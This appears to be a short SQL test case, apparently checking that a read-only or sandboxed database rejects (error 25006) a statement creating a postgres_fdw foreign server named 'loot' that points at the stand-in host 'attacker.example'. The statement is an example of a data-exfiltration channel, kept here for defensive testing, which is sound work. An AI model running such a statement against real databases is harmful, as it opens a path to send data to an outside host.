-- expect: 25006
-- why: create a foreign server pointing outside
CREATE SERVER loot FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'attacker.example')
